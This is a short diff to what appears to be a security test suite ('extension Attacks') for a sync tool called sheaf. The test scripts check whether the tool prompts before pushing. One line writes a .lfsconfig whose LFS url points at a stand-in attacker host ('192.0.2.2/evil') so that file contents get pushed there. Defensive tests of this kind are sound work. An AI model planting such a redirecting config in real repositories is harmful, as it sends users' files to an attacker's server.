@@ -66,6 +66,7 @@ extension Attacks {
                 echo x > mine.png; sheaf sync; echo "sync $?"; grep -c push ~/asked
                 sheaf trust --yes >/dev/null; sheaf sync; echo "sync $?"; grep -c push ~/asked
                 printf '[lfs]\\n\\turl = http://192.0.2.2/evil\\n' > .lfsconfig
+                echo y > mine.png
                 sheaf sync; echo "sync $?"; grep -c push ~/asked
                 printf '[lfs]\\n\\tfetchexclude = *\\n' > .lfsconfig
                 sheaf sync; echo "sync $?"
